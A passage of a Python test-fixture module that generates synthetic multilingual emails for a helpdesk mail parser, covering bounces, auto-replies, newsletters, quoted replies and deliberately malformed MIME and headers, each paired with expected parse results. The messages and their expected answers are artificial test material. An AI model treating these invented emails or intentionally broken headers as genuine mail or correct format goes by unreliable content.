        "I am forwarding a message that my neighbour sent to me by mistake.\n"
        "She wants to register for the Saturday workshop but does not speak "
        "English. Could someone who speaks French reply to her directly?\n"
        "\n"
        "Best,\n"
        "Tom\n"
    )
    inner = (
        headers(
            ("Return-Path", "<claire.dubois@example.fr>"),
            ("From", "Claire Dubois <claire.dubois@example.fr>"),
            ("To", "Tom Baker <tom.baker@example.com>"),
            ("Subject", ew(inner_subject, "UTF-8", q=True)),
            ("Date", "Mon, 10 Mar 2025 20:11:45 +0100"),
            ("Message-ID", "<b81f3e2a-inner-fr@example.fr>"),
            ("MIME-Version", "1.0"),
            ("Content-Type", "text/plain; charset=UTF-8"),
            ("Content-Transfer-Encoding", "quoted-printable"),
        )
        + b"\n"
        + qp(enc(_INNER_FR, "utf-8"))
    )
    boundary = "------------F0rw4rd3dM3ss4g3B0und4ry01"
    head = headers(
        ("From", "Tom Baker <tom.baker@example.com>"),
        ("To", HELP),
        ("Subject", ew(subject, "UTF-8", q=True)),
        ("Date", "Tue, 11 Mar 2025 07:58:30 +0000"),
        ("Message-ID", "<fwd-5c2e91@example.com>"),
        ("MIME-Version", "1.0"),
        ("Content-Type", f'multipart/mixed; boundary="{boundary}"'),
    )
    body = (
        b"This is a multi-part message in MIME format.\n"
        + f"--{boundary}\n".encode()
        + headers(
            ("Content-Type", "text/plain; charset=UTF-8"), ("Content-Transfer-Encoding", "7bit")
        )
        + b"\n"
        + enc(note, "ascii")
        + b"\n"
        + f"--{boundary}\n".encode()
        + headers(
            ("Content-Type", 'message/rfc822; name="inscription-atelier.eml"'),
            ("Content-Disposition", 'attachment; filename="inscription-atelier.eml"'),
        )
        + b"\n"
        + inner
        + b"\n"
        + f"--{boundary}--\n".encode()
    )
    return message(head, body), facts(
        "tom.baker@example.com",
        subject,
        ["forwarding a message", "Saturday workshop"],
        ["inscription-atelier.eml"],
        forwarded=[
            {
                "from_email": "claire.dubois@example.fr",
                "subject": inner_subject,
                "text_contains": ["atelier de couture", "machine à coudre"],
            }
        ],
    )


def nested_rfc822_broken():
    subject = "Fwd: meeting on Monday"
    note = (
        "Hello,\n"
        "\n"
        "Please see the message below from Marc about the volunteers' meeting.\n"
        "I could not open it properly on my phone, so I am sending it on as it is. "
        "Can you check whether the meeting room is booked?\n"
        "\n"
        "Regards,\n"
        "Grace\n"
    )
    inner_text = (
        "Bonjour Grace,\n"
        "\n"
        "La réunion des bénévoles aura lieu lundi à 18h30 dans la grande salle.\n"
        "Peux-tu prévenir l'équipe du mardi ? Merci d'avance.\n"
        "\n"
        "Marc\n"
    )
    # broken inner headers: an encoded-word that never ends (no "?="), then a
    # line without a colon in the middle of the header block.
    inner = (
        b"From: =?UTF-8?Q?Marc_Lef=C3=A8vre?= <marc.lefevre@example.fr>\n"
        b"To: grace.lee@example.com\n"
        b"Subject: =?UTF-8?Q?R=C3=A9union_des_b=C3=A9n=C3=A9voles_lundi\n"
        b"Date: Sun, 09 Mar 2025 22:14:03 +0100\n"
        b"Message-ID: <9d1c0a77-broken@example.fr>\n"
        b"X-Mailer: SuperMail Mobile 3.1\n"
        b"this line has no colon and is not a continuation\n"
        b"MIME-Version: 1.0\n"
        b"Content-Type: text/plain; charset=UTF-8\n"
        b"Content-Transfer-Encoding: 8bit\n"
        b"\n" + enc(inner_text, "utf-8")
    )
    boundary = "Apple-Mail=_5E6F7A8B-1C2D-3E4F-5A6B-7C8D9E0F1A2B"
    head = headers(
        ("From", "Grace Lee <grace.lee@example.com>"),
        ("To", HELP),
        ("Subject", subject),
        ("Date", "Tue, 11 Mar 2025 09:02:17 +0000"),
        ("Message-ID", "<E1A2B3C4-D5E6-F7A8-B9C0-D1E2F3A4B5C6@example.com>"),
        ("MIME-Version", "1.0 (Mac OS X Mail 16.0)"),
        ("Content-Type", f'multipart/mixed; boundary="{boundary}"'),
    )
    # ... and the outer multipart is never closed (no final "--boundary--").
    body = (
        f"--{boundary}\n".encode()
        + headers(
            ("Content-Type", "text/plain; charset=us-ascii"), ("Content-Transfer-Encoding", "7bit")
        )
        + b"\n"
        + enc(note, "ascii")
        + b"\n"
        + f"--{boundary}\n".encode()
        + headers(
            ("Content-Type", 'message/rfc822; name="reunion-lundi.eml"'),
            ("Content-Disposition", 'attachment; filename="reunion-lundi.eml"'),
        )
        + b"\n"
        + inner
    )
    return message(head, body), facts(
        "grace.lee@example.com",
        subject,
        ["message below from Marc", "meeting room is booked"],
        ["reunion-lundi.eml"],
    )


def dsn_bounce():
    subject = "Undelivered Mail Returned to Sender"
    boundary = "4B2C31A0F3.1741169702/mail.example.net"
    notification = (
        "This is the mail system at host mail.example.net.\n"
        "\n"
        "I'm sorry to have to inform you that your message could not\n"
        "be delivered to one or more recipients. It's attached below.\n"
        "\n"
        "For further assistance, please send mail to postmaster.\n"
        "\n"
        "If you do so, please include this problem report. You can\n"
        "delete your own text from the attached returned message.\n"
        "\n"
        "                   The mail system\n"
        "\n"
        "<nobody@example.com>: host mx.example.com[192.0.2.50] said: 550 5.1.1\n"
        "    <nobody@example.com>: Recipient address rejected: User unknown in virtual\n"
        "    mailbox table (in reply to RCPT TO command)\n"
    )
    status = (
        "Reporting-MTA: dns; mail.example.net\n"
        "X-Postfix-Queue-ID: 4B2C31A0F3\n"
        "X-Postfix-Sender: rfc822; help@example.org\n"
        "Arrival-Date: Wed,  5 Mar 2025 10:15:01 +0000 (UTC)\n"
        "\n"
        "Final-Recipient: rfc822; nobody@example.com\n"
        "Original-Recipient: rfc822;nobody@example.com\n"
        "Action: failed\n"
        "Status: 5.1.1\n"
        "Remote-MTA: dns; mx.example.com\n"
        "Diagnostic-Code: smtp; 550 5.1.1 <nobody@example.com>: Recipient address\n"
        "    rejected: User unknown in virtual mailbox table\n"
    )
    # In-Reply-To and References come first: the first <...> in the part is
    # NOT the bounced message's id.
    original = (
        "Return-Path: <help@example.org>\n"
        "Received: from app.example.org (app.example.org [198.51.100.7])\n"
        "\tby mail.example.net (Postfix) with ESMTPS id 4B2C31A0F3\n"
        "\tfor <nobody@example.com>; Wed,  5 Mar 2025 10:15:01 +0000 (UTC)\n"
        "In-Reply-To: <question-4821@example.com>\n"
        "References: <question-4821@example.com>\n"
        "From: Polyglot Desk <help@example.org>\n"
        "To: nobody@example.com\n"
        "Subject: Re: Question [#4821]\n"
        "Date: Wed, 05 Mar 2025 10:15:00 +0000\n"
        "Message-ID: <reply-4821.1@example.org>\n"
        "MIME-Version: 1.0\n"
        "Content-Type: text/plain; charset=utf-8\n"
        "Content-Transfer-Encoding: 8bit\n"
    )
    head = headers(
        ("Return-Path", "<>"),
        (
            "Received",
            "by mail.example.net (Postfix)\n\tid 5D0E21A0F4; Wed,  5 Mar 2025 10:15:02 +0000 (UTC)",
        ),
        ("Date", "Wed,  5 Mar 2025 10:15:02 +0000 (UTC)"),
        ("From", "MAILER-DAEMON@mail.example.net (Mail Delivery System)"),
        ("Subject", subject),
        ("To", "help@example.org"),
        ("Auto-Submitted", "auto-replied"),
        ("MIME-Version", "1.0"),
        (
            "Content-Type",
            f'multipart/report; report-type=delivery-status;\n\tboundary="{boundary}"',
        ),
        ("Content-Transfer-Encoding", "8bit"),
        ("Message-Id", "<20250305101502.5D0E21A0F4@mail.example.net>"),
    )
    body = (
        b"This is a MIME-encapsulated message.\n\n"
        + f"--{boundary}\n".encode()
        + headers(
            ("Content-Description", "Notification"),
            ("Content-Type", "text/plain; charset=us-ascii"),
        )
        + b"\n"
        + enc(notification, "ascii")
        + b"\n"
        + f"--{boundary}\n".encode()
        + headers(
            ("Content-Description", "Delivery report"), ("Content-Type", "message/delivery-status")
        )
        + b"\n"
        + enc(status, "ascii")
        + b"\n"
        + f"--{boundary}\n".encode()
        + headers(
            ("Content-Description", "Undelivered Message Headers"),
            ("Content-Type", "text/rfc822-headers"),
        )
        + b"\n"
        + enc(original, "ascii")
        + b"\n"
        + f"--{boundary}--\n".encode()
    )
    return message(head, body), facts(
        "mailer-daemon@mail.example.net",
        subject,
        ["your message could not", "User unknown"],
        automatic=True,
        bounce=True,
        bounced_message_id="<reply-4821.1@example.org>",
    )


def out_of_office():
    subject = "Automatische Antwort: Re: Question [#4821]"
    text = (
        "Vielen Dank für Ihre Nachricht.\n"
        "\n"
        "Ich bin vom 3. bis einschließlich 14. März 2025 nicht im Büro und habe nur "
        "eingeschränkt Zugriff auf meine E-Mails.\n"
        "In dringenden Fällen wenden Sie sich bitte an meine Kollegin Frau "
        "Schneider (schneider@example.de).\n"
        "\n"
        "Mit freundlichen Grüßen\n"
        "Klaus Weber\n"
    )
    head = headers(
        ("From", "Klaus Weber <k.weber@example.de>"),
        ("To", HELP),
        ("Subject", subject),
        ("Thread-Topic", "Question [#4821]"),
        ("Date", "Wed, 05 Mar 2025 11:15:04 +0100"),
        ("Message-ID", "<oof-8c41d2e7@example.de>"),
        ("In-Reply-To", "<reply-4821.1@example.org>"),
        ("References", "<question-4821@example.com> <reply-4821.1@example.org>"),
        ("Auto-Submitted", "auto-replied"),
        ("X-Autoreply", "yes"),
        ("X-Auto-Response-Suppress", "All"),
        ("X-MS-Exchange-Inbox-Rules-Loop", "k.weber@example.de"),
        ("Content-Language", "de-DE"),
        ("MIME-Version", "1.0"),
        ("Content-Type", 'text/plain; charset="utf-8"'),
        ("Content-Transfer-Encoding", "quoted-printable"),
    )
    return message(head, qp(enc(text, "utf-8"))), facts(
        "k.weber@example.de", subject, ["nicht im Büro", "Frau Schneider"], automatic=True
    )


def precedence_bulk():
    subject = "Community Kitchen News - March 2025"
    text = (
        "Hello friends,\n"
        "\n"
        "This month we served 1,240 meals and welcomed eleven new volunteers.\n"
        "Our spring fundraising dinner will take place on 28 March at the "
        "community hall. Tickets are available on our website.\n"
        "\n"
        "You are receiving this newsletter because you subscribed at "
        "lists.example.com.\n"
        "Unsubscribe: https://lists.example.com/unsubscribe?u=4f2a9c\n"
    )
    head = headers(
        ("From", '"Community Kitchen News" <news@lists.example.com>'),
        ("Reply-To", "news@lists.example.com"),
        ("To", "help@example.org"),
        ("Subject", subject),
        ("Date", "Mon, 03 Mar 2025 06:00:00 +0000"),
        ("Message-ID", "<newsletter-2025-03.help=example.org@lists.example.com>"),
        ("Precedence", "bulk"),
        ("List-Id", '"Community Kitchen News" <news.lists.example.com>'),
        (
            "List-Unsubscribe",
            "<mailto:leave-news@lists.example.com?subject=unsubscribe>,\n"
            " <https://lists.example.com/unsubscribe?u=4f2a9c>",
        ),
        ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"),
        ("MIME-Version", "1.0"),
        ("Content-Type", "text/plain; charset=us-ascii"),
        ("Content-Transfer-Encoding", "7bit"),
    )
    return message(head, enc(text, "ascii")), facts(
        "news@lists.example.com",
        subject,
        ["1,240 meals", "spring fundraising dinner"],
        automatic=True,
    )


def missing_message_id():
    subject = "Pregunta sobre el horario de atención"
    text = (
        "Buenas tardes:\n"
        "\n"
        "Quisiera saber cuál es el horario de atención de la oficina durante la "
        "Semana Santa.\n"
        "Necesito recoger un certificado de voluntariado para mi universidad. "
        "¿Hace falta pedir cita previa?\n"
        "\n"
        "Saludos cordiales,\n"
        "Carlos Gómez\n"
    )
    head = headers(
        ("From", ew("Carlos Gómez", "utf-8", q=True) + " <carlos.gomez@example.mx>"),
        ("To", HELP),
        ("Subject", ew(subject, "utf-8", q=True)),
        ("Date", "Tue, 11 Mar 2025 16:20:00 -0600"),
        ("MIME-Version", "1.0"),
        ("Content-Type", "text/plain; charset=utf-8"),
        ("Content-Transfer-Encoding", "quoted-printable"),
    )
    return message(head, qp(enc(text, "utf-8"))), facts(
        "carlos.gomez@example.mx",
        subject,
        ["horario de atención", "certificado de voluntariado"],
        has_message_id=False,
    )


def header_only():
    subject = "Is the office open tomorrow?"
    data = crlf(
        headers(
            ("From", "Ravi Kumar <ravi.kumar@example.in>"),
            ("To", HELP),
            ("Subject", subject),
            ("Date", "Wed, 12 Mar 2025 07:45:00 +0530"),
            ("Message-ID", "<header-only.31337@example.in>"),
        )
    )
    assert data.endswith(b"\r\n") and not data.endswith(b"\r\n\r\n")
    return data, facts("ravi.kumar@example.in", subject, [])


def no_from():
    subject = "Richiesta di informazioni sul volontariato"
    text = (
        "Buongiorno,\n"
        "\n"
        "vorrei sapere se è possibile fare volontariato anche solo due sabati al mese.\n"
        "Lavoro durante la settimana, ma nel fine settimana sono libera. Esiste "
        "un modulo da compilare?\n"
        "\n"
        "Cordiali saluti,\n"
        "Maria Rossi\n"
    )
    head = headers(
        ("Sender", "Maria Rossi <maria.rossi@example.it>"),
        ("To", HELP),
        ("Subject", subject),
        ("Date", "Wed, 12 Mar 2025 10:10:10 +0100"),
        ("Message-ID", "<no-from.5521@example.it>"),
        ("MIME-Version", "1.0"),
        ("Content-Type", "text/plain; charset=UTF-8"),
        ("Content-Transfer-Encoding", "8bit"),
    )
    return message(head, enc(text, "utf-8")), facts(
        "maria.rossi@example.it", subject, ["due sabati al mese", "modulo da compilare"]
    )


def missing_boundary():
    subject = "Photo of the damaged parcel"
    text = (
        "Hello,\n"
        "\n"
        "I tried to attach a photo of the damaged parcel but my mail program seems "
        "to have dropped it.\n"
        "The box of donated books arrived with a torn side and two books are "
        "missing. Please let me know if you still want the photo and I will send "
        "it again.\n"
        "\n"
        "Kind regards,\n"
        "Daniel Novak\n"
    )
    head = headers(
        ("From", "Daniel Novak <daniel.novak@example.cz>"),
        ("To", HELP),
        ("Subject", subject),
        ("Date", "Thu, 13 Mar 2025 12:00:59 +0100"),
        ("Message-ID", "<missing-boundary.0042@example.cz>"),
        ("MIME-Version", "1.0"),
        ("Content-Type", 'multipart/mixed;\n boundary="----=_NextPart_000_0042_01DB93C5.6E1F3B20"'),
    )
    return message(head, enc(text, "ascii")), facts(
        "daniel.novak@example.cz", subject, ["damaged parcel", "two books are missing"]
    )


def bare_lf():
    subject = "स्वयंसेवक पंजीकरण के बारे में प्रश्न"
    text = (
        "नमस्ते,\n"
        "\n"
        "मैं आपकी संस्था में स्वयंसेवक के रूप में काम करना चाहती हूँ।\n"
        "मैंने पिछले सप्ताह ऑनलाइन फॉर्म भरा था, लेकिन मुझे अभी तक कोई जवाब नहीं मिला।\n"
        "कृपया बताइए कि आगे क्या करना होगा।\n"
        "\n"
        "धन्यवाद,\n"
        "प्रिया शर्मा\n"
    )
    head = headers(
        ("From", ew("प्रिया शर्मा", "UTF-8") + " <priya.sharma@example.in>"),
        ("To", HELP),
        ("Subject", ew(subject, "UTF-8")),
        ("Date", "Thu, 13 Mar 2025 15:30:00 +0530"),
        ("Message-ID", "<bare-lf.7f3a@example.in>"),
        ("MIME-Version", "1.0"),
        ("Content-Type", "text/plain; charset=UTF-8"),
        ("Content-Transfer-Encoding", "8bit"),
    )
    data = head + b"\n" + enc(text, "utf-8")  # no crlf(): bare LF throughout
    assert b"\r" not in data
    return data, facts(
        "priya.sharma@example.in", subject, ["स्वयंसेवक के रूप में काम करना चाहती हूँ", "ऑनलाइन फॉर्म भरा था"]
    )


def long_header_lines():
    pieces = ["Problems with the volunteer portal:"]
    steps = [
        "login page",
        "password reset",
        "profile form",
        "shift calendar",
        "shift swap",
        "document upload",
        "language menu",
        "notification settings",
    ]
    number = 0
    while len(" ".join(pieces)) < 1950:
        step = steps[number % len(steps)]
        number += 1
        pieces.append(f"({number}) the {step} shows an error after I press save;")
    subject = " ".join(pieces)
    subject = subject[:-1] + "."
    assert "  " not in subject and 1950 <= len(subject) <= 2100

    ids = [f"<thread-{n:02d}.{(n * 7919) % 100000:05d}@example.org>" for n in range(1, 61)]
    # badly folded: 20 ids on the first line, ids glued without white space,
    # TAB and multi-space folds, one id alone on a deeply indented line.
    refs = (
        " ".join(ids[0:20]) + "\n"
        "\t" + "".join(ids[20:26]) + "\n"
        "  " + ",".join(ids[26:30]) + "\n"
        "                                        " + ids[30] + "\n"
        " \t " + " ".join(ids[31:45]) + "\n"
        "\t\t" + "\t".join(ids[45:59]) + "\n"
        " " + ids[59]
    )
    text = (
        "Hello,\n"
        "\n"
        "I have been trying to update my volunteer profile for a week and every "
        "page gives me an error.\n"
        "I wrote the full list in the subject line so that nothing gets lost. "
        "Could someone from the technical team call me back?\n"
        "\n"
        "Thank you,\n"
        "Ahmed Hassan\n"
    )
    head = headers(
        ("From", "Ahmed Hassan <ahmed.hassan@example.eg>"),
        ("To", HELP),
        ("Subject", subject),
        ("Date", "Fri, 14 Mar 2025 09:09:09 +0200"),
        ("Message-ID", "<long-headers.2000@example.eg>"),
        ("In-Reply-To", ids[-1]),
        ("References", refs),
        ("MIME-Version", "1.0"),
        ("Content-Type", "text/plain; charset=us-ascii"),
        ("Content-Transfer-Encoding", "7bit"),
    )
    return message(head, enc(text, "ascii")), facts(
        "ahmed.hassan@example.eg", subject, ["update my volunteer profile", "technical team"]
    )


def reply_quoted_gmail_fr():
    subject = "Re: Your volunteer slot on Saturday [#77]"
    new = (
        "Merci, je serai là samedi à 10h. "
        "Je viendrai avec une amie si cela ne pose pas de problème."
    )
    attribution = "Le lun. 3 mars 2025 à 10:02, Polyglot Desk <help@example.org> a écrit :"
    history = [
        "Hello Julien,",
        "",
        "Thank you for signing up. Your volunteer slot is confirmed for Saturday,",
        "8 March, from 10:00 to 13:00 at the community kitchen.",
        "",
        "Please reply to this e-mail to confirm that you will come.",
        "",
        "Best regards,",
        "Polyglot Desk",
    ]
    text = (
        new
        + "\n\n"
        + attribution
        + "\n\n"
        + "".join(("> " + line if line else ">") + "\n" for line in history)
    )
    html = (
        f'<div dir="ltr">{new}</div><br><div class="gmail_quote gmail_quote_container">'
        f'<div dir="ltr" class="gmail_attr">{attribution.replace("<", "&lt;").replace(">", "&gt;")}'
        '<br></div><blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;'
        'border-left:1px solid rgb(204,204,204);padding-left:1ex">'
        + "".join(f"<div>{line or '<br>'}</div>" for line in history)
        + "</blockquote></div>\n"
    )
    boundary = "000000000000f7e8d9c0b1a2937e"
    head = headers(
        ("MIME-Version", "1.0"),
        ("References", "<question-77@example.fr> <reply-77.1@example.org>"),
        ("In-Reply-To", "<reply-77.1@example.org>"),
        ("From", "Julien Moreau <julien.moreau@example.fr>"),
        ("Date", "Mon, 3 Mar 2025 10:31:12 +0100"),
        ("Message-ID", "<CAJ+fr=Z7x8Y9w0V1u2T3s4R5q6P@mail.example.com>"),
        ("Subject", subject),
        ("To", HELP),
        ("Content-Type", f'multipart/alternative; boundary="{boundary}"'),
    )
    body = (
        f"--{boundary}\n".encode()
        + headers(
            ("Content-Type", 'text/plain; charset="UTF-8"'),
            ("Content-Transfer-Encoding", "quoted-printable"),
        )
        + b"\n"
        + qp(enc(text, "utf-8"))
        + b"\n"
        + f"--{boundary}\n".encode()
        + headers(
            ("Content-Type", 'text/html; charset="UTF-8"'),
            ("Content-Transfer-Encoding", "quoted-printable"),
        )
        + b"\n"
        + qp(enc(html, "utf-8"))
        + b"\n"
        + f"--{boundary}--\n".encode()
    )
    return message(head, body), facts(
        "julien.moreau@example.fr",
        subject,
        ["Merci, je serai là samedi à 10h."],
        text_not_contains=["Your volunteer slot is confirmed", "a écrit :"],
    )


def reply_quoted_outlook_pt():
    subject = "RES: Your donation receipt [#4790]"
    text = (
        "Olá,\n"
        "\n"
        "Obrigada pela resposta rápida. Recebi o recibo, mas o meu nome está escrito "
        "errado: o correto é Ana Paula Souza.\n"
        "Vocês poderiam emitir um novo recibo?\n"
        "\n"
        "Atenciosamente,\n"
        "Ana Paula Souza\n"
        "\n"
        "-----Original Message-----\n"
        "From: Polyglot Desk <help@example.org>\n"
        "Sent: Monday, March 3, 2025 10:02 AM\n"
        "To: Ana Souza <ana.souza@example.com.br>\n"
        "Subject: Re: Your donation receipt [#4790]\n"
        "\n"
        "Dear Ana,\n"
        "\n"
        "Thank you for your donation. Please find your receipt attached to this message.\n"
        "\n"
        "Kind regards,\n"
        "Polyglot Desk\n"
    )
    head = headers(
        ("From", "Ana Souza <ana.souza@example.com.br>"),
        ("To", HELP),
        ("Subject", subject),
        ("Thread-Topic", "Your donation receipt [#4790]"),
        ("Thread-Index", "AQHbjC5aK3xYbWVzc2FnZUlkZXhhbXBsZQ=="),
        ("Date", "Mon, 3 Mar 2025 14:27:51 +0000"),
        ("Message-ID", "<CP5PR80MB4790ABCDEF0123456789@CP5PR80MB4790.lamprd80.prod.example.com>"),
        ("References", "<reply-4790.1@example.org>"),
        ("In-Reply-To", "<reply-4790.1@example.org>"),
        ("Accept-Language", "pt-BR, en-US"),
        ("Content-Language", "pt-BR"),
        ("MIME-Version", "1.0"),
        ("Content-Type", 'text/plain; charset="iso-8859-1"'),
        ("Content-Transfer-Encoding", "quoted-printable"),
    )
    return message(head, qp(enc(text, "iso-8859-1"))), facts(
        "ana.souza@example.com.br",
        subject,
        ["o meu nome está escrito errado", "emitir um novo recibo"],
        text_not_contains=["Thank you for your donation", "-----Original Message-----"],
    )


def reply_quoted_outlook_de():
    subject = "AW: Your volunteer application [#5120]"
    text = (
        "Hallo,\n"
        "\n"
        "vielen Dank für die schnelle Rückmeldung. Ich kann am Donnerstag um 18 Uhr "
        "zum Kennenlerngespräch kommen.\n"
        "Muss ich ein Führungszeugnis mitbringen?\n"
        "\n"
        "Viele Grüße\n"
        "Thomas Becker\n"
        "\n"
        "________________________________\n"
        "Von: Polyglot Desk <help@example.org>\n"
        "Gesendet: Montag, 3. März 2025 10:02\n"
        "An: Thomas Becker <thomas.becker@example.at>\n"
        "Betreff: Re: Your volunteer application [#5120]\n"
        "\n"
        "Hello Thomas,\n"
        "\n"
        "Thank you for your application. Could you come in for a short introductory "
        "meeting this week?\n"
        "\n"
        "Best regards,\n"
        "Polyglot Desk\n"
    )
    head = headers(
        ("From", "Thomas Becker <thomas.becker@example.at>"),
        ("To", HELP),
        ("Subject", subject),
        ("Thread-Topic", "Your volunteer application [#5120]"),
        ("Thread-Index", "AQHbjDe5xR0wL2FwcGxpY2F0aW9uNTEyMA=="),
        ("Date", "Mon, 3 Mar 2025 11:48:20 +0000"),
        ("Message-ID", "<VI1PR04MB5120FEDCBA9876543210@VI1PR04MB5120.eurprd04.prod.example.com>"),
        ("References", "<reply-5120.1@example.org>"),
        ("In-Reply-To", "<reply-5120.1@example.org>"),
        ("Accept-Language", "de-AT, en-US"),
        ("Content-Language", "de-AT"),
        ("MIME-Version", "1.0"),
        ("Content-Type", 'text/plain; charset="utf-8"'),
        ("Content-Transfer-Encoding", "base64"),
    )
    return message(head, b64(crlf(enc(text, "utf-8")))), facts(
        "thomas.becker@example.at",
        subject,
        ["am Donnerstag um 18 Uhr", "Führungszeugnis"],
        text_not_contains=["Thank you for your application", "Gesendet: Montag"],
    )


def signature_ru():
    subject = "Предложение помощи с переводами"
    text = (
        "Добрый вечер!\n"
        "\n"
        "Я профессиональный переводчик с английского и немецкого языков.\n"
        "Хотел бы бесплатно помогать вашей организации с переводом писем и "
        "документов. Напишите, пожалуйста, как я могу подключиться.\n"
        "\n"
        "-- \n"
        "Дмитрий Соколов\n"
        "переводчик\n"
        "тел. +7 900 000-00-00\n"
    )
    head = headers(
        ("From", ew("Дмитрий Соколов", "UTF-8") + " <d.sokolov@example.ru>"),
        ("To", HELP),
        ("Subject", ew(subject, "UTF-8")),
        ("Date", "Fri, 14 Mar 2025 20:05:00 +0300"),
        ("Message-ID", "<sig-ru.6610@example.ru>"),
        ("MIME-Version", "1.0"),
        ("Content-Type", "text/plain; charset=UTF-8"),
        ("Content-Transfer-Encoding", "quoted-printable"),
    )
    data = qp(enc(text, "utf-8"))
    assert b"\n--=20\n" in data  # the delimiter's space only exists after decoding
    return message(head, data), facts(
        "d.sokolov@example.ru",
        subject,
        ["помогать вашей организации с переводом", "как я могу подключиться"],
    )


# --- machine mail: report and bounce variants (ARF, delayed DSN, text bounce) ---


def arf_feedback():
    """ARF (RFC 5965) complaint about one of our replies: machine mail, and no bounce, though it
    carries the reported message's headers like a DSN does."""
    subject = "Email Feedback Report for IP 198.51.100.7"
    boundary = "ARF_7f3c2a91"
    head = headers(
        ("From", "Mailbox Feedback <feedback@fbl.example.net>"),
        ("To", "abuse@example.org"),
        ("Subject", subject),
        ("Date", "Thu, 06 Mar 2025 09:00:00 +0000"),
        ("Message-ID", "<fbl-20250306090000.1@fbl.example.net>"),
        ("MIME-Version", "1.0"),
        (
            "Content-Type",
            f'multipart/report; report-type="feedback-report";\n\tboundary="{boundary}"',
        ),
    )
    body = (
        f"--{boundary}\n".encode()
        + headers(("Content-Type", "text/plain; charset=us-ascii"))
        + b"\nThis is an email abuse report for a message received from 198.51.100.7.\n\n"
        + f"--{boundary}\n".encode()
        + headers(("Content-Type", "message/feedback-report"))
        + b"\nFeedback-Type: abuse\nUser-Agent: ExampleFBL/1.0\nVersion: 1\n"
        + b"Original-Mail-From: <help@example.org>\nArrival-Date: Thu, 06 Mar 2025 08:59:00 +0000\n"
        + b"Source-IP: 198.51.100.7\n\n"
        + f"--{boundary}\n".encode()
        + headers(("Content-Type", "text/rfc822-headers"))
        + b"\nFrom: Polyglot Desk <help@example.org>\nTo: someone@example.net\n"
        + b"Subject: Re: Question [#4821]\nMessage-ID: <reply-4821.2@example.org>\n\n"
        + f"--{boundary}--\n".encode()
    )
    return message(head, body), facts(
        "feedback@fbl.example.net", subject, ["abuse report"], automatic=True
    )


def dsn_delayed():
    """A delay warning (Action: delayed, 4.x): machine mail, but nothing has bounced yet."""
    subject = "Delayed Mail (still being retried)"
    boundary = "DLY.1741255200/mail.example.net"
    head = headers(
        ("Return-Path", "<>"),
        ("From", "Mail Delivery System <MAILER-DAEMON@mail.example.net>"),
        ("To", "help@example.org"),
        ("Subject", subject),
        ("Date", "Thu, 06 Mar 2025 10:00:00 +0000"),
        ("Message-ID", "<20250306100000.DLY@mail.example.net>"),
        ("MIME-Version", "1.0"),
        (
            "Content-Type",
            f'multipart/report; report-type=delivery-status;\n\tboundary="{boundary}"',
        ),
    )
    body = (
        f"--{boundary}\n".encode()
        + headers(("Content-Type", "text/plain; charset=us-ascii"))
        + b"\nTHIS IS A WARNING ONLY.  YOU DO NOT NEED TO RESEND YOUR MESSAGE.\n"
        + b"Your message could not be delivered for 4 hours. It will be retried.\n\n"
        + f"--{boundary}\n".encode()
        + headers(("Content-Type", "message/delivery-status"))
        + b"\nReporting-MTA: dns; mail.example.net\n\n"
        + b"Final-Recipient: rfc822; slow@example.com\nAction: delayed\nStatus: 4.4.1\n"
        + b"Diagnostic-Code: smtp; 421 4.4.1 connection timed out\n\n"
        + f"--{boundary}\n".encode()
        + headers(("Content-Type", "text/rfc822-headers"))
        + b"\nFrom: Polyglot Desk <help@example.org>\nTo: slow@example.com\n"
        + b"Message-ID: <reply-4821.7@example.org>\n\n"
        + f"--{boundary}--\n".encode()
    )
    return message(head, body), facts(
        "mailer-daemon@mail.example.net", subject, ["WARNING ONLY"], automatic=True
    )


def text_bounce_qmail():
    """qmail's bounce: plain text, no DSN part, the returned message's headers quoted below a
    marker line; the original Message-ID must be found in the text."""
    subject = "failure notice"
    text = (
        "Hi. This is the qmail-send program at mail.example.net.\n"
        "I'm afraid I wasn't able to deliver your message to the following addresses.\n"
        "This is a permanent error; I've given up. Sorry it didn't work out.\n"
        "\n"
        "<gone@example.com>:\n"
        "Sorry, no mailbox here by that name. (#5.1.1)\n"
        "\n"
        "--- Below this line is a copy of the message.\n"
        "\n"
        "Return-Path: <help@example.org>\n"
        "From: Polyglot Desk <help@example.org>\n"
        "To: gone@example.com\n"
        "Subject: Re: Question [#4821]\n"
        "In-Reply-To: <question-4821@example.com>\n"
        "Message-ID: <reply-4821.3@example.org>\n"
        "\n"
        "We will help.\n"
    )
    head = headers(
        ("From", "MAILER-DAEMON@mail.example.net"),
        ("To", "help@example.org"),
        ("Subject", subject),
        ("Date", "6 Mar 2025 10:30:00 -0000"),
        ("Message-ID", "<20250306103000.4242.qmail@mail.example.net>"),
    )
    return message(head, enc(text, "ascii")), facts(
        "mailer-daemon@mail.example.net",
        subject,
        ["qmail-send program", "no mailbox here"],
        automatic=True,
        bounce=True,
        bounced_message_id="<reply-4821.3@example.org>",
    )


# --- end of machine mail variants ---
# --------------------------------------------------------------------------
# senders: broken or hostile From lines real mail carries (issue 10)
# --------------------------------------------------------------------------


def _plain_note(sender_headers, subject, text, message_id):
    """A plain text/plain message whose only oddity is in `sender_headers`."""
    head = headers(
        *sender_headers,
        ("To", HELP),
        ("Subject", subject),
        ("Date", "Mon, 17 Mar 2025 09:30:00 +0100"),
        ("Message-ID", message_id),
        ("MIME-Version", "1.0"),
        ("Content-Type", "text/plain; charset=utf-8"),
        ("Content-Transfer-Encoding", "8bit"),
    )
    return message(head, enc(text, "utf-8"))


def sender_mailer_daemon_bare():
    subject = "Undeliverable: Re: Question [#4821]"
    boundary = "bare-daemon-0001"
    status = (
        "Reporting-MTA: dns; gw.example.net\n"
        "\n"
        "Final-Recipient: rfc822; gone@example.com\n"
        "Action: failed\n"
        "Status: 5.1.1\n"
        "Diagnostic-Code: smtp; 550 5.1.1 mailbox unavailable\n"
    )
    original = (
        "From: Polyglot Desk <help@example.org>\n"
        "To: gone@example.com\n"
        "Subject: Re: Question [#4821]\n"
        "Message-ID: <reply-4821.2@example.org>\n"
    )
    head = headers(
        ("Return-Path", "<>"),
        ("From", "MAILER-DAEMON"),
        ("To", "help@example.org"),
        ("Subject", subject),
        ("Date", "Mon, 17 Mar 2025 09:31:00 +0100"),
        ("Message-ID", "<bare-daemon.0001@gw.example.net>"),
        ("MIME-Version", "1.0"),
        ("Content-Type", f'multipart/report; report-type=delivery-status; boundary="{boundary}"'),
    )
    body = (
        f"--{boundary}\n".encode()
        + headers(("Content-Type", "text/plain; charset=us-ascii"))
